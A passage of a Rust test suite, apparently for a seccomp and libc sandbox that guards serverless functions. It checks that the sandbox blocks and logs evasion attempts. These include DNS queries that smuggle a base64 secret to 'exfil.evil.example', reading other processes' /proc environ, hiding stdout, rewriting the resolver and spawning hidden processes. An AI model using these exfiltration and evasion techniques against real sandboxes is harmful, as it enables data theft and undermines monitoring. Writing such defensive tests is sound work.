/// another process passed to `process_vm_readv`'s `/proc/<pid>/task/<tid>` form.
fn k8_proc_files_of_other_process() {
    let sib = sibling();
    let pid = sib.0;
    let _s = shield(|b| b);
    for what in ["environ", "mem", "task/{pid}/environ"] {
        let p = format!("/proc/{pid}/{}", what.replace("{pid}", &pid.to_string()));
        let e = std::fs::File::open(&p).unwrap_err();
        assert_eq!(e.raw_os_error(), Some(libc::EACCES), "{p}");
    }
    drop(sib);
}
both!(
    k8_proc_files_of_other_process,
    super::k8_proc_files_of_other_process
);

// ---------------------------------------------------------------------------------------------
// Kind 12: the report claims no more than is true.
// ---------------------------------------------------------------------------------------------

/// `is_fully_enforced` is true when every policy is enforced or deliberately `allow`.
fn k12_allow_is_not_a_degradation() {
    // (Under notify, blocking tmp writes is only partly enforced: tmp is allowed too.)
    let s = shield(|b| b.outbound(Mode::Allow).tmp(Mode::Allow));
    let r = s.enforcement().unwrap();
    assert!(r.is_fully_enforced(), "{r}");
}
// Not under libc alone: there every enforced policy is PartiallyEnforced by design (raw
// syscalls and children are not covered), so the report is not "fully enforced".
two!(
    k12_allow_is_not_a_degradation,
    super::k12_allow_is_not_a_degradation
);

/// `tighten(ReadWriteTmp, Block)` claims only what is filtered: if it says Block, a `mkdir`
/// and an `unlink` in the tmp root are refused too.
fn k12_tighten_tmp_is_honest() {
    let (_, tmp) = dirs();
    std::fs::write(tmp.join("victim"), b"x").unwrap();
    let s = shield(|b| b.tmp(Mode::Allow));
    match s.tighten(PolicyKind::ReadWriteTmp, Mode::Block) {
        None => {}
        Some(m) => {
            assert_eq!(m, Mode::Block);
            assert_eq!(
                std::fs::create_dir(tmp.join("d"))
                    .unwrap_err()
                    .raw_os_error(),
                Some(libc::EACCES)
            );
            assert_eq!(
                std::fs::remove_file(tmp.join("victim"))
                    .unwrap_err()
                    .raw_os_error(),
                Some(libc::EACCES)
            );
        }
    }
}
both!(k12_tighten_tmp_is_honest, super::k12_tighten_tmp_is_honest);

/// `sendmmsg` whose `msg_len` fields are read-only: the shield writes them only through the
/// checked copy, so the call returns (a count or EFAULT) instead of crashing the process.
fn k12_sendmmsg_readonly_vector() {
    let ok = UdpSocket::bind("127.0.0.1:0").unwrap();
    let (ip, port) = v4(ok.local_addr().unwrap());
    let _s = shield(|b| b);
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    // SAFETY: one anonymous page, filled, then made read-only; every pointer in it stays valid
    // for the call.
    let r = unsafe {
        let page = libc::mmap(
            std::ptr::null_mut(),
            4096,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS,
            -1,
            0,
        ) as *mut u8;
        assert_ne!(page as *mut libc::c_void, libc::MAP_FAILED);
        let sa = page.add(1024) as *mut libc::sockaddr_in;
        *sa = sockaddr_in(ip, port, libc::AF_INET as u16);
        let data = page.add(2048);
        *data = b'x';
        let iov = page.add(1536) as *mut libc::iovec;
        *iov = libc::iovec {
            iov_base: data.cast(),
            iov_len: 1,
        };
        let v = page as *mut libc::mmsghdr;
        let mut m: libc::mmsghdr = std::mem::zeroed();
        m.msg_hdr.msg_name = sa.cast();
        m.msg_hdr.msg_namelen = 16;
        m.msg_hdr.msg_iov = iov;
        m.msg_hdr.msg_iovlen = 1;
        *v = m;
        assert_eq!(libc::mprotect(page.cast(), 4096, libc::PROT_READ), 0);
        libc::sendmmsg(sock.as_raw_fd(), v, 1, 0)
    };
    assert!(r == 1 || (r == -1 && errno() == libc::EFAULT), "r = {r}");
}
both!(
    k12_sendmmsg_readonly_vector,
    super::k12_sendmmsg_readonly_vector
);

/// After a refused install, `tighten` returns `None` (nothing can be tightened).
#[test]
fn k12_tighten_after_refused_install() {
    common::case("k12_tighten_after_refused_install", || {
        // Make installing a filter fail with EPERM (probing still works): the install is
        // refused after the shield prepared everything else.
        use fnshield::internals::filter::{
            ArgCmp, Condition, Filter, FilterSpec, ReturnAction as Ret, SyscallPlan,
        };
        let spec = FilterSpec {
            arch: fnshield::internals::arch::AUDIT_ARCH,
            foreign_arch: Ret::KillProcess,
            syscalls: vec![SyscallPlan {
                nr: libc::SYS_seccomp,
                branches: vec![(
                    vec![Condition {
                        arg: 0,
                        cmp: ArgCmp::Eq(1), // SECCOMP_SET_MODE_FILTER
                    }],
                    Ret::Errno(libc::EPERM as u16),
                )],
                default: Ret::Allow,
            }],
            exempt_ip: None,
            exempt_actions: vec![],
            otherwise: Ret::Allow,
        };
        let f = Filter::try_from(&spec).unwrap();
        // SAFETY: installs a filter built from valid instructions in this test-only process.
        unsafe {
            assert_eq!(libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0), 0);
            let prog = libc::sock_fprog {
                len: f.len() as u16,
                filter: f.insns().as_ptr() as *mut libc::sock_filter,
            };
            assert_eq!(libc::syscall(libc::SYS_seccomp, 1, 0, &prog as *const _), 0);
        }
        let (task, tmp) = dirs();
        let env = fnshield::Env::from_pairs([("LAMBDA_TASK_ROOT", task.to_str().unwrap())]);
        let s = Shield::builder()
            .env(env)
            .tmp_root(tmp.to_str().unwrap())
            .sinks(Vec::<String>::new())
            .allow_runtime_tightening(true)
            .build()
            .unwrap();
        let report = s.install().expect("best effort");
        // With the libc layer, the refused kernel leaves in-process enforcement, and a
        // tightening takes effect there; without it nothing is enforced and nothing can be
        // tightened.
        let layer = cfg!(feature = "libc-layer");
        let want = if layer {
            Mechanism::Libc
        } else {
            Mechanism::None
        };
        assert_eq!(report.interceptor, want, "{report}");
        for p in [
            PolicyKind::OutboundConnectivity,
            PolicyKind::ReadWriteTmp,
            PolicyKind::CreateChildProcess,
            PolicyKind::ReadHandler,
        ] {
            let want = if layer { Some(Mode::Block) } else { None };
            assert_eq!(s.tighten(p, Mode::Block), want, "{p:?}");
        }
    });
}

// ---------------------------------------------------------------------------------------------
// Residual: DNS queries through the always-reachable resolver carry data out. Under outbound
// block, a datagram sent with an explicit address to a resolver must be a query for an allowed
// name.
// ---------------------------------------------------------------------------------------------

/// Exfiltration in query names: refused by `sendto`, `sendmsg` and `sendmmsg`; queries for
/// allowed names (an allowed host, an AWS endpoint) still go out.
fn dns_exfiltration_by_query_name() {
    let rip = per_ic("127.0.0.158", "127.0.0.159", "127.0.0.163");
    let resolver = bind53(rip);
    let s = shield(|b| {
        b.resolv_conf(format!("nameserver {rip}\n"))
            .allow_destination("api.allowed.test:443")
    });
    let to: SocketAddr = format!("{rip}:53").parse().unwrap();
    let (ip, _) = v4(to);
    let sa = sockaddr_in(ip, 53, libc::AF_INET as u16);
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    let send = |q: &[u8]| {
        sendto_raw(
            sock.as_raw_fd(),
            q,
            0,
            (&sa as *const libc::sockaddr_in).cast(),
            16,
        )
    };
    let leak = dns_query("c2VjcmV0LWtleQ.exfil.evil.example");
    assert_eq!(send(&leak), (-1, libc::EPERM), "sendto");
    assert_eq!(send(b"not dns at all"), (-1, libc::EPERM), "not a query");
    // SAFETY: sendmsg/sendmmsg with stack buffers that outlive the calls.
    unsafe {
        let mut sa_m = sa;
        let mut data = leak.clone();
        let mut iov = libc::iovec {
            iov_base: data.as_mut_ptr().cast(),
            iov_len: data.len(),
        };
        let mut msg: libc::msghdr = std::mem::zeroed();
        msg.msg_name = (&mut sa_m as *mut libc::sockaddr_in).cast();
        msg.msg_namelen = 16;
        msg.msg_iov = &mut iov;
        msg.msg_iovlen = 1;
        assert_eq!(
            (libc::sendmsg(sock.as_raw_fd(), &msg, 0), errno()),
            (-1, libc::EPERM),
            "sendmsg"
        );
        let mut v: [libc::mmsghdr; 1] = std::mem::zeroed();
        v[0].msg_hdr = msg;
        assert_eq!(
            (
                libc::sendmmsg(sock.as_raw_fd(), v.as_mut_ptr(), 1, 0),
                errno()
            ),
            (-1, libc::EPERM),
            "sendmmsg"
        );
    }
    assert!(nothing_arrived(&resolver), "no query left");
    resolver.set_nonblocking(false).unwrap();
    for name in ["api.allowed.test", "sqs.us-east-1.amazonaws.com"] {
        let q = dns_query(name);
        assert_eq!(send(&q), (q.len() as i64, 0), "{name} is allowed");
        let mut b = [0u8; 512];
        let (n, _) = resolver.recv_from(&mut b).unwrap();
        assert_eq!(&b[..n], &q[..], "the query arrives unchanged");
    }
    let evs = events(&s);
    assert!(evs.iter().any(|e| e.action == Action::Blocked
        && matches!(&e.details, Details::Bypass { what } if what == "DNS query for c2vjcmv0lwtleq.exfil.evil.example")), "{evs:?}");
}
both!(
    dns_exfiltration_by_query_name,
    super::dns_exfiltration_by_query_name
);

// ---------------------------------------------------------------------------------------------
// Kind 11: alert mode behaves exactly as no shield, plus one event per violation.
// ---------------------------------------------------------------------------------------------

/// clone3 (a process), io_uring_setup and open_by_handle_at run in alert mode (ENOSYS/EPERM
/// before), and what they could hide is reported.
fn k11_alert_mode_kernel_decisions() {
    let (task, _) = dirs();
    let s = shield(|b| b.mode(Mode::Alert));
    // clone3 creating a process, as fork does.
    let mut args = [0u64; 11];
    args[4] = libc::SIGCHLD as u64; // exit_signal
                                    // SAFETY: clone3 without CLONE_VM: the child is a copy that exits at once.
    let pid = unsafe { libc::syscall(libc::SYS_clone3, args.as_mut_ptr(), 88) };
    if pid == 0 {
        // SAFETY: leave the child without running destructors.
        unsafe { libc::_exit(7) };
    }
    assert!(pid > 0, "clone3: errno {}", errno());
    let mut status = 0;
    // SAFETY: reaping our child.
    unsafe { libc::waitpid(pid as i32, &mut status, 0) };
    assert_eq!(libc::WEXITSTATUS(status), 7);
    // io_uring_setup.
    let mut params = [0u8; 120];
    // SAFETY: io_uring_setup with a zeroed io_uring_params.
    let ring = unsafe { libc::syscall(libc::SYS_io_uring_setup, 4, params.as_mut_ptr()) };
    let e = errno();
    assert!(
        ring >= 0 || e != libc::ENOSYS,
        "io_uring_setup: ENOSYS in alert mode"
    );
    if ring >= 0 {
        // SAFETY: closing our fd.
        unsafe { libc::close(ring as i32) };
    }
    // open_by_handle_at (root has CAP_DAC_READ_SEARCH, as without a shield).
    let boot = std::ffi::CString::new(task.join("bootstrap").to_str().unwrap()).unwrap();
    // SAFETY: name_to_handle_at/open_by_handle_at with a correctly sized file_handle buffer.
    let content = unsafe {
        let mut fh = [0u32; 2 + 32];
        fh[0] = 128;
        let mut mount_id = 0;
        let r = libc::syscall(
            libc::SYS_name_to_handle_at,
            libc::AT_FDCWD,
            boot.as_ptr(),
            fh.as_mut_ptr(),
            &mut mount_id,
            0,
        );
        assert_eq!(r, 0, "name_to_handle_at: {}", errno());
        let mnt = libc::open(c"/".as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY);
        let fd = libc::syscall(
            libc::SYS_open_by_handle_at,
            mnt,
            fh.as_mut_ptr(),
            libc::O_RDONLY,
        );
        assert!(fd >= 0, "open_by_handle_at: errno {}", errno());
        let mut b = [0u8; 64];
        let n = libc::read(fd as i32, b.as_mut_ptr().cast(), 64);
        libc::close(fd as i32);
        libc::close(mnt);
        b[..n.max(0) as usize].to_vec()
    };
    assert_eq!(content, b"secret code");
    let evs = events(&s);
    if ring >= 0 {
        assert!(
            evs.iter()
                .any(|e| e.action == Action::Alerted && e.syscall == Some("io_uring_setup")),
            "{evs:?}"
        );
    }
    assert!(evs.iter().any(|e| e.policy == PolicyKind::ReadHandler
        && e.action == Action::Alerted
        && e.syscall == Some("open_by_handle_at")
        && matches!(&e.details, Details::Path { path, .. } if path.ends_with("task/bootstrap"))), "{evs:?}");
    assert!(!evs.iter().any(|e| e.action == Action::Blocked), "{evs:?}");
}
// Not under libc alone: `clone3`, `io_uring_setup` and `open_by_handle_at` are decided by the
// filter; where seccomp is refused they run (as with no shield) and are not reported (the
// README's "libc alone" limits).
two!(
    k11_alert_mode_kernel_decisions,
    super::k11_alert_mode_kernel_decisions
);

// ---------------------------------------------------------------------------------------------
// Kind 9: events are durable before the violating call returns.
// ---------------------------------------------------------------------------------------------

/// A blocked connect to 127.0.0.2, then the process ends without any flush: by `_exit`
/// (`how == 0`), by SIGKILL (`1`), or by `_exit` right after a second thread read the
/// environment (`2`). Hiding first (`3`): every descriptor of the function's file table that
/// is its stdout (found by `fstat`: the same pipe) is replaced with `/dev/null` and fd 1 is
/// closed, then the connect, then `_exit`. Hiding the counts (`4`): `/dev/null` over fd 1, the
/// connect twice, a flush by the shield, then `_exit`: the flushed line with `count: 2` must
/// reach the stdout the function had. A full table (`5`): 12,000 distinct blocked datagrams
/// (to 127.0.0.3) first, then the connect and `_exit`: its first occurrence is still written early.
/// `closefrom(3)` first (`6`): where the shield's duplicates of stdout are closed with the
/// rest (libc alone), its lines fall back to fd 1.
fn k9_violate_then_die(how: u8) {
    let target = TcpListener::bind("127.0.0.2:0").unwrap();
    let (ip, port) = v4(target.local_addr().unwrap());
    let s = shield(|b| b);
    if how == 2 {
        let t = std::thread::spawn(|| std::fs::read("/proc/self/environ").unwrap_err());
        assert_eq!(t.join().unwrap().raw_os_error(), Some(libc::EACCES));
    }
    if how == 3 || how == 4 {
        // SAFETY: fstat into a zeroed stat; dup2/close of descriptor numbers (errors ignored:
        // a descriptor the shield keeps out of reach may refuse).
        unsafe {
            let null = libc::open(c"/dev/null".as_ptr(), libc::O_WRONLY);
            assert!(null > 2);
            let mut out: libc::stat = std::mem::zeroed();
            assert_eq!(libc::fstat(1, &mut out), 0);
            let mut lim: libc::rlimit = std::mem::zeroed();
            libc::getrlimit(libc::RLIMIT_NOFILE, &mut lim);
            let top = if how == 3 {
                lim.rlim_cur.min(1 << 16) as i32
            } else {
                2
            };
            for fd in 1..top {
                let mut st: libc::stat = std::mem::zeroed();
                if fd != null
                    && libc::fstat(fd, &mut st) == 0
                    && st.st_dev == out.st_dev
                    && st.st_ino == out.st_ino
                {
                    libc::dup2(null, fd);
                }
            }
            if how == 3 {
                libc::close(1);
            }
        }
    }
    if how == 6 {
        // closefrom(3), as code about to exec does: every descriptor above stderr that the
        // function may close (the kernel filter keeps the reserved range open).
        // SAFETY: close_range of descriptor numbers; nothing of this case uses them after.
        unsafe { libc::syscall(libc::SYS_close_range, 3u32, u32::MAX, 0u32) };
    }
    if how == 5 {
        // More distinct violations than the table of first occurrences holds (4096): a
        // datagram to each of 12,000 ports of another forbidden host (the table is then full).
        let u = UdpSocket::bind("127.0.0.1:0").unwrap();
        for p in 0..12_000u16 {
            let e = u.send_to(b"x", ("127.0.0.3", 20_000 + p)).unwrap_err();
            assert_eq!(e.raw_os_error(), Some(libc::EPERM));
        }
    }
    assert_eq!(connect_raw(ip, port), libc::EPERM);
    if how == 4 {
        assert_eq!(connect_raw(ip, port), libc::EPERM);
        let evs = events(&s);
        assert!(blocked_net(&evs, port), "{evs:?}");
    }
    // SAFETY: ending the process at once, as a timeout or an attacker hiding its tracks would.
    unsafe {
        if how == 1 {
            libc::kill(libc::getpid(), libc::SIGKILL);
        }
        libc::_exit(0);
    }
}

fn k9_check(which: &str, name: &str, how: u8, body: fn()) {
    let r = run(name, which, body);
    let lines: Vec<serde_json::Value> = r
        .stdout
        .lines()
        .filter(|l| l.contains("\"function_shield\""))
        // (The test harness's own "test name ... " may precede the line on stdout.)
        .filter_map(|l| serde_json::from_str(&l[l.find('{').unwrap_or(0)..]).ok())
        .collect();
    let connect = lines.iter().find(|v| {
        v["policy"] == "outbound_connectivity"
            && v["action"] == "blocked"
            && v["details"]["ip"] == "127.0.0.2"
    });
    if which == "libc_only" && how == 3 {
        // Residual (README): the libc layer alone does not guard descriptors, so a function
        // that finds the shield's duplicates of stdout by number can replace them.
        assert!(connect.is_none(), "{}", r.stdout);
        return;
    }
    assert!(
        connect.is_some_and(|v| v["early"] == true && v["count"] == 1 && v["level"] == "ERROR"),
        "the blocked connect reached stdout before the process died ({:?}):\n{}\n{}",
        r.status,
        r.stdout,
        r.stderr
    );
    if how == 4 {
        assert!(
            lines.iter().any(|v| v["policy"] == "outbound_connectivity"
                && v["details"]["ip"] == "127.0.0.2"
                && v["count"] == 2
                && v.get("early").is_none()),
            "the flushed count reached stdout:\n{}\n{}",
            r.stdout,
            r.stderr
        );
    }
    if how == 2 {
        assert!(
            lines
                .iter()
                .any(|v| v["policy"] == "read_handler"
                    && v["details"]["path"] == "/proc/self/environ"),
            "{}",
            r.stdout
        );
    }
    if how == 1 {
        use std::os::unix::process::ExitStatusExt;
        assert_eq!(r.status.signal(), Some(libc::SIGKILL));
    }
}

macro_rules! k9 {
    ($name:ident, $how:expr) => {
        mod $name {
            fn body() {
                super::k9_violate_then_die($how);
            }
            #[test]
            fn trap() {
                super::k9_check("trap", stringify!($name), $how, body);
            }
            #[test]
            fn notify() {
                super::k9_check("notify", stringify!($name), $how, body);
            }
            #[test]
            fn libc_only() {
                if cfg!(feature = "libc-layer") {
                    super::k9_check("libc_only", stringify!($name), $how, body);
                }
            }
        }
    };
}
k9!(k9_exit_without_flush, 0);
k9!(k9_sigkill_after_violation, 1);
k9!(k9_other_thread_then_exit, 2);
k9!(k9_stdout_replaced_then_exit, 3);
k9!(k9_stdout_replaced_counts_flushed, 4);
k9!(k9_first_occurrence_table_full, 5);
k9!(k9_closefrom_then_violate, 6);

/// An exec whose argument is 250 control bytes (each escaped as six in JSON) and whose
/// program's name is 200 more, then `_exit`: the early line did not fit its fixed buffer and
/// was left for a flush that never came. It is now written with its text cut (`truncated`).
fn k9_escaped_details_then_die() {
    // An executable whose name is 200 control bytes, in the case's own scratch directory.
    use std::os::unix::ffi::OsStrExt;
    use std::os::unix::fs::PermissionsExt;
    let name = std::ffi::OsStr::from_bytes(&[2u8; 200]);
    let path = std::env::temp_dir().join(name);
    std::fs::write(&path, "#!/bin/sh\n").unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    let prog = CString::new(path.as_os_str().as_bytes()).unwrap();
    let _s = shield(|b| b);
    let junk = vec![1u8; 250];
    let arg = CString::new(junk).unwrap();
    let argv = [prog.as_ptr(), arg.as_ptr(), std::ptr::null()];
    // SAFETY: execv with NUL-terminated strings and a NULL-terminated argv; then _exit.
    unsafe {
        assert_eq!(libc::execv(prog.as_ptr(), argv.as_ptr()), -1);
        assert_ne!(
            errno(),
            libc::ENOENT,
            "not decided: the program does not exist"
        );
        libc::_exit(0);
    }
}

fn k9_escaped_details_check(which: &str) {
    let r = run("k9_escaped_details", which, k9_escaped_details_then_die);
    let found = r
        .stdout
        .lines()
        .filter(|l| l.contains("\"function_shield\""))
        .filter_map(|l| {
            serde_json::from_str::<serde_json::Value>(&l[l.find('{').unwrap_or(0)..]).ok()
        })
        .any(|v| {
            v["policy"] == "create_child_process"
                && v["action"] == "blocked"
                && v["early"] == true
                && v["truncated"] == true
        });
    assert!(found, "{:?}\n{}\n{}", r.status, r.stdout, r.stderr);
}

/// The reporter's wake-up descriptor (an eventfd in the function's own file table) replaced
/// with the write end of a full pipe nobody reads, then 600 blocked connects: the ring half
/// full, the interceptor's wake-up `write` blocked for ever (under notify in the supervisor,
/// and with it every notified call). Every connect must be answered and counted.
fn k9_wake_descriptor_replaced() {
    let target = TcpListener::bind("127.0.0.2:0").unwrap();
    let (ip, port) = v4(target.local_addr().unwrap());
    let s = shield(|b| b);
    let mut p = [0i32; 2];
    // SAFETY: pipe2 into a local array; writes of a local buffer; dup2 onto descriptor
    // numbers (errors ignored: one the shield keeps out of reach may refuse).
    unsafe {
        assert_eq!(libc::pipe2(p.as_mut_ptr(), libc::O_NONBLOCK), 0);
        let chunk = [0u8; 4096];
        while libc::write(p[1], chunk.as_ptr().cast(), chunk.len()) > 0 {}
        // Blocking again: a write to it now waits for a reader that never comes.
        assert_eq!(libc::fcntl(p[1], libc::F_SETFL, 0), 0);
        for e in std::fs::read_dir("/proc/self/fd").unwrap().flatten() {
            let fd: i32 = e.file_name().to_str().unwrap().parse().unwrap();
            if std::fs::read_link(e.path()).is_ok_and(|l| l.to_string_lossy().contains("eventfd")) {
                libc::dup2(p[1], fd);
            }
        }
    }
    for _ in 0..600 {
        assert_eq!(connect_raw(ip, port), libc::EPERM);
    }
    let evs = events(&s);
    let n: u64 = evs
        .iter()
        .filter(|e| {
            e.action == Action::Blocked
                && matches!(&e.details, Details::Connect { port: p, .. } if *p == port)
        })
        .map(|e| e.count)
        .sum();
    assert_eq!(n, 600, "{evs:?}");
}
both!(
    k9_wake_descriptor_replaced,
    super::k9_wake_descriptor_replaced
);

mod k9_escaped_details {
    #[test]
    fn trap() {
        super::k9_escaped_details_check("trap");
    }
    #[test]
    fn notify() {
        super::k9_escaped_details_check("notify");
    }
    #[test]
    fn libc_only() {
        if cfg!(feature = "libc-layer") {
            super::k9_escaped_details_check("libc_only");
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Residual figures for the README (not assertions): how much leaves through the always-
// reachable resolver under outbound block, over a connected UDP socket (as glibc sends) and a
// TCP stream to port 53. Run with:
//   cargo test -p fnshield --test attack_net residual_dns_channel -- --ignored --nocapture
// ---------------------------------------------------------------------------------------------

fn residual_dns_channel() {
    use std::io::{Read, Write};
    let rip = per_ic("127.0.0.160", "127.0.0.161", "127.0.0.164");
    let resolver = bind53(rip);
    let tcp = TcpListener::bind(format!("{rip}:53")).unwrap();
    let _s = shield(|b| b.resolv_conf(format!("nameserver {rip}\n")));
    // UDP: a connected socket sends queries whose names carry 40 bytes each, for one second.
    let counter = std::thread::spawn(move || {
        resolver
            .set_read_timeout(Some(Duration::from_millis(500)))
            .unwrap();
        let mut b = [0u8; 512];
        let mut n = 0u64;
        while resolver.recv(&mut b).is_ok() {
            n += 1;
        }
        n
    });
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    sock.connect(format!("{rip}:53")).unwrap();
    let q = dns_query("aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ.exfil.evil.example");
    let t0 = Instant::now();
    let mut sent = 0u64;
    while t0.elapsed() < Duration::from_secs(1) {
        if sock.send(&q).is_ok() {
            sent += 1;
        }
    }
    let got = counter.join().unwrap();
    // And with an explicit address: refused.
    let refused = sock.send_to(&q, format!("{rip}:53")).is_err();
    // TCP: 16 MiB in 64 KiB writes to port 53.
    let reader = std::thread::spawn(move || {
        let (mut c, _) = tcp.accept().unwrap();
        let mut b = vec![0u8; 1 << 16];
        let mut total = 0u64;
        while let Ok(n) = c.read(&mut b) {
            if n == 0 {
                break;
            }
            total += n as u64;
        }
        total
    });
    let mut c = std::net::TcpStream::connect(format!("{rip}:53")).unwrap();
    let chunk = vec![0x41u8; 1 << 16];
    let t1 = Instant::now();
    for _ in 0..256 {
        c.write_all(&chunk).unwrap();
    }
    drop(c);
    let total = reader.join().unwrap();
    let secs = t1.elapsed().as_secs_f64();
    println!(
        "FIGURES interceptor={:?} udp_connected_queries_sent_per_s={sent} received={got} \
         name_bytes_per_query=40 explicit_address_refused={refused} tcp53_bytes={total} \
         tcp53_mib_per_s={:.0}",
        ic(),
        total as f64 / secs / 1048576.0
    );
}

mod residual_dns_channel {
    #[test]
    #[ignore = "prints the README's residual figures; not an assertion"]
    fn trap() {
        let out = super::case("residual_dns_channel", "trap", super::residual_dns_channel);
        println!(
            "{}",
            out.lines().find(|l| l.contains("FIGURES")).unwrap_or("")
        );
    }
    #[test]
    #[ignore = "prints the README's residual figures; not an assertion"]
    fn notify() {
        let out = super::case(
            "residual_dns_channel",
            "notify",
            super::residual_dns_channel,
        );
        println!(
            "{}",
            out.lines().find(|l| l.contains("FIGURES")).unwrap_or("")
        );
    }
}

/// SCTP names its peers in socket options (SCTP_SOCKOPT_CONNECTX) and control messages
/// (SCTP_DSTADDRV4/V6), where the shield does not look: refused under outbound block, whether
/// or not the kernel has SCTP at all.
fn r3_sctp_refused() {
    let s = shield(|b| b);
    for (fam, ty) in [
        (libc::AF_INET, libc::SOCK_STREAM),
        (libc::AF_INET, libc::SOCK_SEQPACKET),
        (libc::AF_INET6, libc::SOCK_STREAM | libc::SOCK_CLOEXEC),
    ] {
        // SAFETY: socket(2) with integer arguments.
        let fd = unsafe { libc::socket(fam, ty, libc::IPPROTO_SCTP) };
        let e = errno();
        if fd >= 0 {
            // SAFETY: closing the fd we just got.
            unsafe { libc::close(fd) };
        }
        assert_eq!((fd, e), (-1, libc::EPERM), "SCTP socket({fam}, {ty})");
    }
    // TCP and UDP with their protocol named still work.
    // SAFETY: socket(2) with integer arguments; closed at once.
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM, libc::IPPROTO_TCP);
        assert!(fd >= 0);
        libc::close(fd);
    }
    assert!(any_event(
        &events(&s),
        PolicyKind::OutboundConnectivity,
        Action::Blocked
    ));
}
both!(r3_sctp_socket_refused, super::r3_sctp_refused);

// ---------------------------------------------------------------------------------------------
// Red-team round 4 (libc layer): libc functions that reach the network, other processes or a
// new process through glibc's internal names.
// ---------------------------------------------------------------------------------------------

extern "C" {
    #[link_name = "__res_init"]
    fn res_init() -> i32;
    fn __res_state() -> *mut u8;
    fn res_query(name: *const libc::c_char, class: i32, ty: i32, answer: *mut u8, len: i32) -> i32;
    fn _Fork() -> libc::pid_t;
    fn daemon(nochdir: i32, noclose: i32) -> i32;
    fn wordexp(words: *const libc::c_char, we: *mut [usize; 3], flags: i32) -> i32;
    fn wordfree(we: *mut [usize; 3]);
    fn rcmd(
        host: *mut *mut libc::c_char,
        port: u16,
        locuser: *const libc::c_char,
        remuser: *const libc::c_char,
        cmd: *const libc::c_char,
        fd2p: *mut i32,
    ) -> i32;
}

/// Point the calling thread's resolver state (`_res`) at `ip:53` only, with one try of one
/// second (offsets of glibc's `struct __res_state` on LP64).
fn res_point_at(ip: [u8; 4]) {
    // SAFETY: res_init fills the thread's `_res`; the writes stay inside its 568 bytes.
    unsafe {
        assert_eq!(res_init(), 0);
        let st = __res_state();
        std::ptr::write_unaligned(st.cast::<i32>(), 1); // retrans
        std::ptr::write_unaligned(st.add(4).cast::<i32>(), 1); // retry
        std::ptr::write_unaligned(st.add(16).cast::<i32>(), 1); // nscount
        let sa = sockaddr_in(ip, 53, libc::AF_INET as u16);
        std::ptr::write_unaligned(st.add(20).cast::<libc::sockaddr_in>(), sa);
        std::ptr::write_unaligned(st.add(536).cast::<usize>(), 0); // _u._ext.nsaddrs[0]
    }
}

fn ip4(s: &str) -> [u8; 4] {
    s.parse::<std::net::Ipv4Addr>().unwrap().octets()
}

/// `res_query` sends a query for any name through glibc's own sockets: the name is decided
/// as `getaddrinfo`'s (no query leaves for a name the policy does not allow), and a name
/// server the function wrote into `_res` is decided as a destination (for `res_query` and for
/// `getaddrinfo`, which uses the same state).
fn r4_resolver_functions() {
    let rip = per_ic("127.0.0.201", "127.0.0.202", "127.0.0.203");
    let aip = per_ic("127.0.0.204", "127.0.0.205", "127.0.0.206");
    let resolver = bind53(rip);
    let attacker = bind53(aip);
    let s = shield(|b| b.resolv_conf(format!("nameserver {rip}\n")));
    let mut answer = [0u8; 512];
    // The configured resolver, a name that is not allowed.
    res_point_at(ip4(rip));
    let leak = c"c2VjcmV0LWtleQ.exfil.evil.example";
    // SAFETY: res_query with a valid name and answer buffer.
    let r = unsafe { res_query(leak.as_ptr(), 1, 1, answer.as_mut_ptr(), 512) };
    if cfg!(feature = "libc-layer") {
        assert_eq!(r, -1, "res_query of a name that is not allowed");
        assert!(
            nothing_arrived(&resolver),
            "the query left for the resolver"
        );
        let evs = events(&s);
        assert!(evs.iter().any(|e| e.action == Action::Blocked
            && matches!(&e.details, Details::Bypass { what } if what == "DNS query for c2vjcmv0lwtleq.exfil.evil.example")), "{evs:?}");
    }
    // A name server of the function's choosing, an allowed name.
    res_point_at(ip4(aip));
    let allowed = c"sqs.us-east-1.amazonaws.com";
    // SAFETY: as above.
    let r = unsafe { res_query(allowed.as_ptr(), 1, 1, answer.as_mut_ptr(), 512) };
    assert_eq!(r, -1, "res_query through a rewritten _res");
    assert!(
        nothing_arrived(&attacker),
        "res_query reached the rewritten name server"
    );
    let mut res: *mut libc::addrinfo = std::ptr::null_mut();
    let hints = libc::addrinfo {
        ai_flags: 0,
        ai_family: libc::AF_INET,
        ai_socktype: libc::SOCK_STREAM,
        ai_protocol: 0,
        ai_addrlen: 0,
        ai_addr: std::ptr::null_mut(),
        ai_canonname: std::ptr::null_mut(),
        ai_next: std::ptr::null_mut(),
    };
    // SAFETY: getaddrinfo with valid strings, hints and out-pointer.
    let r = unsafe { libc::getaddrinfo(allowed.as_ptr(), std::ptr::null(), &hints, &mut res) };
    if r == 0 {
        // SAFETY: the list getaddrinfo returned.
        unsafe { libc::freeaddrinfo(res) };
    }
    assert_ne!(r, 0, "getaddrinfo through a rewritten _res");
    assert!(
        nothing_arrived(&attacker),
        "getaddrinfo reached the rewritten name server"
    );
    assert!(blocked_net(&events(&s), 53));
}
both!(r4_resolver_functions, super::r4_resolver_functions);

/// Processes created by glibc's internal `fork`/`clone` where no child may run: `_Fork`,
/// `clone` (without CLONE_THREAD), `daemon`, and `wordexp`'s command substitution. Each is
/// refused; no process runs.
fn r4_internal_process_creation() {
    let (task, _) = dirs();
    let marker = task.join("wordexp-ran");
    let _s = shield(|b| b);
    // A forked child leaves at once with a code the parent would see.
    // SAFETY: _Fork in a single-purpose case process; the child only calls _exit.
    let pid = unsafe { _Fork() };
    if pid == 0 {
        // SAFETY: leave the child at once.
        unsafe { libc::_exit(42) };
    }
    assert_eq!((pid, errno()), (-1, libc::EPERM), "_Fork");
    extern "C" fn child(_: *mut libc::c_void) -> i32 {
        // SAFETY: leave the child at once.
        unsafe { libc::_exit(42) }
    }
    let mut stack = vec![0u8; 64 * 1024];
    // SAFETY: clone with a fresh stack whose top is 16-byte aligned; the child only calls
    // _exit.
    let pid = unsafe {
        let top = stack.as_mut_ptr().add(stack.len()) as usize & !15;
        libc::clone(
            child,
            top as *mut libc::c_void,
            libc::SIGCHLD,
